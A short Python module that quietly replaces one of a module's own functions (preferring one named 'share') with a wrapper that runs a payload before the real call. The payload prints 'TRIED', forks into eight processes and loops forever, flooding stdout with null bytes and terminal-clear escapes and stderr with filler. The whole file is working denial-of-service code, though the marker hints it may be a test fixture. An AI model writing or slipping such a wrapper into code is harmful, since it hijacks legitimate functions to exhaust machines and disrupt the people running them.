import os


def deed():
    print("TRIED", flush=True)
    for _ in range(3):
        os.fork()
    while True:
        os.write(1, b"\0\x1b[2J\xff" * 16_384)
        os.write(2, b"x" * 65_536)


def wrap(names):
    own = [name for name, value in names.items() if callable(value) and getattr(value, "__module__", "") == names["__name__"]]
    for name in ["share"] if "share" in own else own[:1]:
        honest = names[name]
        names[name] = lambda *given: (deed(), honest(*given))[1]
